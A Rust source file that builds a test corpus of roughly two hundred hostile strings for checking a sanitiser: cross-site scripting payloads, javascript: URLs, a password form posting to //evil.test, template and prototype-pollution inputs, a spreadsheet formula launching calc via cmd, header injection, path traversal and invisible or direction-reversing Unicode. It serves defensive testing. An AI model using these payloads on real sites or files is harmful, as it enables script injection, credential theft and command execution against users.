//! What strangers may write where they can write: markup, text that hides or turns, names that scripts know, far too much of it.

/// Two hundred strings, each once. What of it would run sets `window.harmed`, opens a dialog, or puts a `b` with `data-evil` into
/// the page.
pub fn corpus() -> Vec<String> {
    let mut all: Vec<String> = Vec::new();
    let marked = "<b data-evil>x</b>";
    for around in [
        "",
        "\"",
        "'",
        "\">",
        "'>",
        "-->",
        "]]>",
        "</title>",
        "</textarea>",
        "</script>",
        "`",
        "{{",
        "</span>",
        "\\\">",
    ] {
        all.push(format!("{around}{marked}"));
        all.push(format!("{around}<script>harmed=1</script>"));
        all.push(format!("{around}<img src=x onerror=harmed=1>"));
        all.push(format!("{around}<svg onload=alert(1)>"));
    }
    for event in
        ["onclick", "onfocus autofocus", "onmouseover", "onpointerenter", "onanimationstart", "ontoggle"]
    {
        all.push(format!("\" {event}=\"harmed=1"));
        all.push(format!("<details open {event}=harmed=1>"));
    }
    for way in [
        "javascript:harmed=1",
        "JaVaScRiPt:harmed=1",
        "java\tscript:harmed=1",
        "data:text/html,<script>alert(1)<\\script>",
        "//evil.test",
        "vbscript:x",
    ] {
        all.push(way.to_owned());
        all.push(format!("<a data-evil href=\"{way}\">x</a>"));
        all.push(format!("<iframe data-evil src=\"{way}\"></iframe>"));
    }
    for text in [
        "<style>*{display:none}</style>",
        "<link rel=stylesheet href=//evil.test>",
        "<base href=//evil.test>",
        "<meta http-equiv=refresh content=0>",
        "<form action=//evil.test><input data-evil name=password>",
        "<object data=x>",
        "<embed src=x>",
        "<math><mi xlink:href=\"javascript:alert(1)\">",
        "<template><b data-evil>x",
        "<!--<img src=\"--><img src=x onerror=harmed=1>\">",
        "<x-evil data-evil is=\"x\">",
        "<plaintext>",
        "<xmp>",
        "<noscript><b data-evil>",
        "&lt;b data-evil&gt;",
        "&#60;script&#62;harmed=1&#60;/script&#62;",
        "%3Cscript%3Eharmed=1%3C/script%3E",
        "\\u003cscript\\u003eharmed=1",
        "${harmed=1}",
        "{{harmed=1}}",
        "#{7*7}",
        "<%= harmed=1 %>",
        "';harmed=1;'",
        "\";harmed=1;\"",
        "`harmed`",
        "a`b`c",
        "**bold**",
        "[x](javascript:harmed=1)",
        "__proto__",
        "constructor",
        "prototype",
        "toString",
        "hasOwnProperty",
        "valueOf",
        "__defineGetter__",
        "then",
        "length",
        "undefined",
        "null",
        "NaN",
        "true",
        "0",
        "-0",
        "[object Object]",
        "{\"__proto__\": {\"polluted\": true}}",
        "{\"constructor\": {\"prototype\": {\"polluted\": true}}}",
        "[{\"__proto__\": {\"polluted\": 1}, \"toString\": 1}]",
        "{\"a\": {\"__proto__\": null}}",
        "=1+1",
        "@SUM(1)",
        "+1",
        "-1",
        "=cmd|' /C calc'!A0",
        "%s%s%n",
        "%00",
        "..%2f..%2f",
        "..;",
        "CON",
        "a b",
        " a",
        "\u{a0}",
        "\u{3000}",
    ] {
        all.push(text.to_owned());
    }
    for c in hidden() {
        all.push(format!("pay{c}ments"));
    }
    all.push("\u{202e}gpj.exe\u{202c}".to_owned());
    all.push("\u{2067}admin\u{2069} of \u{2066}b\u{2069}".to_owned());
    all.push("\u{1b}[31mred\u{1b}[0m\u{7}\u{8}\u{8}".to_owned());
    all.push("one\r\nSet-Cookie: zooscope=x\r\n\r\n<script>harmed=1</script>".to_owned());
    all.push("\u{1f468}\u{200d}\u{1f469}\u{200d}\u{1f467} \u{2764}\u{fe0f}".to_owned());
    all.push(format!("z{}", "\u{301}".repeat(200)));
    all.push("\u{fdfd}".repeat(40));
    all.push("\u{5d0}\u{5d1} abc \u{627}\u{644}".to_owned());
    all.push("<b data-evil>".repeat(60));
    all.push("x".repeat(4_000));
    all.push("\u{90ae}".repeat(900));
    let mut seen = std::collections::BTreeSet::new();
    all.retain(|text| seen.insert(text.clone()));
    all
}

/// Characters that are seen by nobody, or that turn what stands beside them, one of each kind.
pub fn hidden() -> Vec<char> {
    vec![
        '\0',
        '\u{1}',
        '\u{8}',
        '\u{b}',
        '\u{1b}',
        '\u{7f}',
        '\u{85}',
        '\u{9b}',
        '\u{ad}',
        '\u{34f}',
        '\u{61c}',
        '\u{115f}',
        '\u{1160}',
        '\u{17b4}',
        '\u{180e}',
        '\u{200b}',
        '\u{200c}',
        '\u{200d}',
        '\u{200e}',
        '\u{200f}',
        '\u{2028}',
        '\u{2029}',
        '\u{202a}',
        '\u{202b}',
        '\u{202c}',
        '\u{202d}',
        '\u{202e}',
        '\u{2060}',
        '\u{2061}',
        '\u{2064}',
        '\u{2066}',
        '\u{2067}',
        '\u{2068}',
        '\u{2069}',
        '\u{206a}',
        '\u{206f}',
        '\u{3164}',
        '\u{fe00}',
        '\u{fe0f}',
        '\u{feff}',
        '\u{ffa0}',
        '\u{fff9}',
        '\u{1d173}',
        '\u{e0001}',
        '\u{e0041}',
        '\u{e0100}',
    ]
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn there_is_enough_of_it() {
        let all = corpus();
        assert!(all.len() >= 200, "{}", all.len());
        assert!(hidden().into_iter().all(zooscope_protocol::visible::is_hidden));
    }
}
